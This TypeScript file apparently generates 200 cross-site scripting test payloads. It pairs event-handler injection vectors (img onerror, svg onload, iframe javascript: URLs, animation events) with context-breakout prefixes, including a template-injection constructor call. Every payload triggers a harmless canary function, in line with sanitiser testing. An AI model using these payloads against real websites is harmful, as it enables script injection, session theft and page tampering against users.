/** Two hundred texts that run code where somebody writes them into a page as HTML. Each calls `top.fired(number)`. */

/** What runs, with the call in place of CALL. */
const RUNNERS: readonly string[] = [
  "<img src=x onerror=CALL>",
  '<IMG SRC="x" OnErRoR="CALL">',
  "<img/src='x'/onerror='CALL'>",
  "<img src=x\nonerror\n=\nCALL>",
  "<img src=x onerror=&#116;op.fired(NUMBER)>",
  "<image src=x onerror=CALL>",
  "<svg onload=CALL>",
  "<svg><g/onload=CALL></g><animate onbegin=CALL attributeName=x dur=1s></svg>",
  "<svg><set attributeName=x onbegin=CALL dur=1s></svg>",
  '<iframe srcdoc="<script>CALL</script>"></iframe>',
  '<iframe src="javascript:CALL"></iframe>',
  "<iframe onload=CALL></iframe>",
  "<video src=x onerror=CALL></video>",
  "<video><source src=x onerror=CALL></video>",
  "<audio src=x onerror=CALL></audio>",
  "<input type=image src=x onerror=CALL>",
  "<link rel=stylesheet href=x onerror=CALL>",
  "<style onload=CALL></style>",
  "<details open ontoggle=CALL>x</details>",
  "<style>@keyframes k{from{opacity:1}}</style><b style='animation:k 1s' onanimationstart=CALL>x</b>",
];

/** Ways out of where the text might have been put. */
const WAYS: readonly string[] = [
  "RUNNER",
  'Sam"><RUNNER>RUNNER',
  "'>RUNNER",
  "</textarea>RUNNER",
  "</title></style>RUNNER",
  "--><!-- -->RUNNER",
  "{{constructor.constructor('CALL')()}}RUNNER",
  "</template></noscript>RUNNER",
  "https://example.org/RUNNER",
  "javascript:CALL//RUNNER",
];

/** All of them. */
export const PAYLOADS: readonly string[] = WAYS.flatMap((way) =>
  RUNNERS.map((runner) => way.replaceAll("RUNNER", runner)),
).map((text, number) => text.replaceAll("CALL", `top.fired(${number})`).replaceAll("NUMBER", String(number)));
